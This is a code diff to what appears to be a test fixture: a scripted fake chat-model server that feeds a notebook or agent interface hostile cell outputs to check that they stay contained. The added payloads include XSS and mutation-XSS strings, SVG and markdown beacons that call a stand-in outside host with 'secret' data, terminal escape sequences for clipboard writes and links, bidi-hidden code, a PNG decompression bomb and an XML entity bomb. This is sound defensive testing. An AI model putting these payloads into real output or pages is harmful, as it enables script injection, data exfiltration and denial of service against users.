@@ -2,6 +2,27 @@
 import { createServer } from 'node:http';
 
 const fence = (thought, code) => `${thought}\n\n\`\`\`python\n${code}\n\`\`\``;
+
+/** What a program shows to get out of its frame: scripts, events, parsers that are led astray, loads of all kinds (E7). */
+const HOSTILE_HTML = [
+  "<script>top.owned = 1; top.document.title = 'owned'; fetch('OUTSIDE/script')</script>",
+  "<meta http-equiv='refresh' content='0;url=OUTSIDE/refresh'>",
+  "<base href='OUTSIDE/'><link rel='stylesheet' href='OUTSIDE/style'><link rel='prefetch' href='OUTSIDE/prefetch'>",
+  "<style>@import 'OUTSIDE/import'; @font-face { font-family: f; src: url(OUTSIDE/font) } p { font-family: f; background: url(OUTSIDE/background) }</style>",
+  "<img src='OUTSIDE/image' onerror='top.owned = 2'><video src='OUTSIDE/video' autoplay></video><object data='OUTSIDE/object'></object>",
+  "<select><iframe></select><img src=x onerror='top.owned = 3'></iframe>",
+  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=top.owned=4&gt;'>",
+  "<iframe src='OUTSIDE/frame'></iframe><embed src='OUTSIDE/embed'><p onclick='top.owned = 5'>bold <b>move</b></p>",
+  "<a href='OUTSIDE/link'>same frame</a> <a href='OUTSIDE/top' target='_top'>whole page</a> <a href='OUTSIDE/new' target='_blank'>new page</a>",
+  "<form action='OUTSIDE/form'><button>send</button></form>",
+].join('');
+const HOSTILE_SVG =
+  "<svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 200 60' onload='top.owned = 6'><script>top.owned = 7</script>" +
+  "<image href='OUTSIDE/svg'/><foreignObject><img xmlns='http://www.w3.org/1999/xhtml' src='OUTSIDE/foreign'/></foreignObject>" +
+  "<rect width='200' height='60' rx='8' fill='teal'/></svg>";
+/** A value as Python writes it; what is not ASCII by its number. */
+const python = (text) => JSON.stringify(text);
+
 /** What is said to a task that has this word in it, reply after reply. */
 const SCRIPTS = {
   region: [
@@ -16,7 +37,9 @@ const SCRIPTS = {
     ),
     'FINAL: **North** sold most: 41873 of 98214 in all.\n\n- North: 41873\n- South: 27150\n\nThe plot is in `sales-by-region.png`.',
   ],
-  six: [fence('A small computation.', 'print(6 * 7)'), 'FINAL: It is 42.'],
+  six: [fence('A small computation.', 'product = 6 * 7\nprint(product)'), 'FINAL: It is 42.'],
+  double: [fence('The variable is still there.', "print('double', 2 * product)"), 'FINAL: The double is 84.'],
+  thrice: [fence('Another way from the same state.', "print('thrice', 3 * product)"), 'FINAL: Thrice it is 126.'],
   slow: [
     fence('This takes a while.', "import time\nfor number in range(1000):\n    print('line', number, flush=True)\n    time.sleep(0.1)"),
     fence('It was interrupted; I print less.', "print('short', 12345)"),
@@ -30,51 +53,73 @@ const SCRIPTS = {
     fence('And one with an exception.', "{}['absent']"),
     'FINAL: The value is still 4217.',
   ],
+  // Commands to a terminal: clipboard, links, device control, 8-bit ones, a line that is written over (E5).
+  escapes: [
+    fence(
+      'Output that commands a terminal.',
+      "print('\\x1b]52;c;ZXZpbA==\\x07\\x1b[31mred\\x1b[0m \\x1b]8;;http://evil.example/\\x07link\\x1b]8;;\\x07 \\x1bP1$qm\\x1b\\\\dcs')\n" +
+        "print('\\x9b31meight\\x9d52;c;ZXZpbA==\\x9c bits', '\\x00nul\\x08\\x7f')\n" +
+        "print('password: secret\\rharmless line 42  ')",
+    ),
+    'FINAL: \u001b[31mIt is 42.\u001b]52;c;ZXZpbA==\u0007',
+  ],
+  // What is read is not what runs: turned direction, no width, tags (E6).
+  unseen: [
+    fence('Code that hides.', "level = 'user\u202e \u2066# only for admins\u2069 \u2066'  # \u{e0068}\u{e0069}\nprint(level)"),
+    'FINAL: It is done.',
+  ],
   hostile: [
     fence(
       'Output that attacks the page.',
-      "print('\\x1b]52;c;ZXZpbA==\\x07\\x1b[31mred\\x1b[0m', 42)\n" +
-        'class Page:\n' +
-        '    def _repr_html_(self):\n' +
-        "        return \"<script>top.document.title='owned'; fetch('http://127.0.0.1:OUTSIDE/x')</script><img src='http://127.0.0.1:OUTSIDE/y' onerror='top.location=1'><p onclick='alert(1)'>bold <b>move</b></p><form action='http://127.0.0.1:OUTSIDE/f'><button>send</button></form>\"\n" +
-        'class Drawing:\n' +
-        '    def _repr_svg_(self):\n' +
-        "        return \"<svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 200 60' onload='top.document.title=1'><script>top.document.title='owned'</script><image href='http://127.0.0.1:OUTSIDE/s'/><rect width='200' height='60' rx='8' fill='teal'/></svg>\"\n" +
-        'display(Page())\n' +
-        'display(Drawing())',
+      `class Page:\n    def _repr_html_(self):\n        return ${python(HOSTILE_HTML)}\n` +
+        `class Drawing:\n    def _repr_svg_(self):\n        return ${python(HOSTILE_SVG)}\n` +
+        "class Words:\n    def _repr_markdown_(self):\n        return '![x](OUTSIDE/markdown?d=secret) <img src=OUTSIDE/raw> [link](javascript:top.owned=8) words 42'\n" +
+        'display(Page())\ndisplay(Drawing())\ndisplay(Words())\nprint(42)',
     ),
-    'FINAL: ![x](http://127.0.0.1:OUTSIDE/z) done 42.',
+    'FINAL: ![x](OUTSIDE/answer?d=secret) <img src=OUTSIDE/raw> [link](javascript:top.owned=9) done 42.',
+  ],
+  // A picture of ten thousand million points, entities that grow, ten thousand displays (E9).
+  heavy: [
+    fence(
+      'Output that is too much.',
+      'import struct, zlib\n' +
+        "def chunk(kind, data):\n    return struct.pack('>I', len(data)) + kind + data + struct.pack('>I', zlib.crc32(kind + data))\n" +
+        "head = struct.pack('>IIBBBBB', 100_000, 100_000, 8, 2, 0, 0, 0)\n" +
+        "picture = b'\\x89PNG\\r\\n\\x1a\\n' + chunk(b'IHDR', head) + chunk(b'IDAT', zlib.compress(bytes(10**6))) + chunk(b'IEND', b'')\n" +
+        'class Picture:\n    def _repr_png_(self):\n        return picture\n' +
+        "entities = ''.join(f'<!ENTITY e{n} \"{(\"&e\" + str(n - 1) + \";\") * 10}\">' for n in range(1, 12))\n" +
+        "bomb = f'<!DOCTYPE svg [<!ENTITY e0 \"lol\">{entities}]><svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 9 9\"><text>&e11;</text></svg>'\n" +
+        'class Bomb:\n    def _repr_svg_(self):\n        return bomb\n' +
+        'display(Picture())\ndisplay(Bomb())\nfor number in range(10_000):\n    display({"number": number})\nprint(42)',
+    ),
+    'FINAL: It is 42.',
   ],
 };
 const OTHER = [fence('I look.', "print('hello', 99)"), 'FINAL: It said 99.'];
 
-/** `outside` is the port of whoever stands for the world that hostile output wants to reach. */
-export function startModel({ port = 0, delay = 15, outside = 9 } = {}) {
+const textOf = (content) => (typeof content === 'string' ? content : (content ?? []).map((part) => part.text ?? '').join(''));
+
+/** `outside` is the address of whoever stands for the world that hostile output wants to reach. */
+export function startModel({ port = 0, delay = 15, outside = 'http://127.0.0.1:9' } = {}) {
   const server = createServer((request, response) => {
     let body = '';
     request.on('data', (part) => (body += part));
     request.on('end', () => {
       const { messages = [], stream } = JSON.parse(body || '{}');
-      // Before the task there may be examples of how a model is to write; after it come its own turns.
-      const words = [...Object.keys(SCRIPTS), 'cells'];
-      const task = messages.findIndex(
-        (message) => message.role === 'user' && words.some((one) => JSON.stringify(message.content).includes(one)),
-      );
-      const asked = JSON.stringify(messages[task]?.content ?? '');
+      // Before the task there may be an example of how a model is to write; after it come its own turns. What follows
+      // the first line is of files and of an earlier run.
+      const task = messages.findLastIndex((message) => message.role === 'user' && textOf(message.content).startsWith('Task: '));
+      const [asked] = textOf(messages[task]?.content).split('\n');
       const word = Object.keys(SCRIPTS).find((one) => asked.includes(one));
-      const many = /make (\d+) cells/.exec(asked);
       const turns = messages.slice(task + 1).filter((message) => message.role === 'assistant').length;
       const script = SCRIPTS[word] ?? OTHER;
-      const reply = many
-        ? turns < Number(many[1])
-          ? fence(`Step ${turns + 1}.`, `value_${turns} = ${turns}\nprint('value', value_${turns})\nfor line in range(3):\n    print('line', line)`)
-          : 'FINAL: Done.'
-        : (script[turns] ?? script.at(-1));
-      answer(response, reply.replaceAll('OUTSIDE', String(outside)), stream, delay);
+      answer(response, (script[turns] ?? script.at(-1)).replaceAll('OUTSIDE', outside), stream, delay);
     });
   });
   return new Promise((resolve) => {
-    server.listen(port, '127.0.0.1', () => resolve({ port: server.address().port, close: () => server.close() }));
+    server.listen(port, '127.0.0.1', () =>
+      resolve({ url: `http://127.0.0.1:${server.address().port}/v1`, close: () => (server.closeAllConnections(), server.close()) }),
+    );
   });
 }
 
@@ -87,8 +132,9 @@ async function answer(response, text, stream, delay) {
   }
   response.setHeader('content-type', 'text/event-stream');
   const say = (value) => response.write(`data: ${JSON.stringify({ id: 'one', object: 'chat.completion.chunk', model: 'scripted', ...value })}\n\n`);
-  for (let at = 0; at < text.length; at += 9) {
-    say({ choices: [{ index: 0, delta: { content: text.slice(at, at + 9) } }] });
+  const letters = [...text];
+  for (let at = 0; at < letters.length; at += 9) {
+    say({ choices: [{ index: 0, delta: { content: letters.slice(at, at + 9).join('') } }] });
     if (delay) await new Promise((resolve) => setTimeout(resolve, delay));
   }
   say({ choices: [{ index: 0, delta: {}, finish_reason: 'stop' }] });
@@ -98,5 +144,5 @@ async function answer(response, text, stream, delay) {
 
 if (process.argv[1]?.endsWith('scripted-model.mjs')) {
   const model = await startModel({ port: Number(process.argv[2] ?? 8080), delay: Number(process.argv[3] ?? 15) });
-  console.log(`a scripted model listens on http://127.0.0.1:${model.port}/v1`);
+  console.log(`a scripted model listens on ${model.url}`);
 }
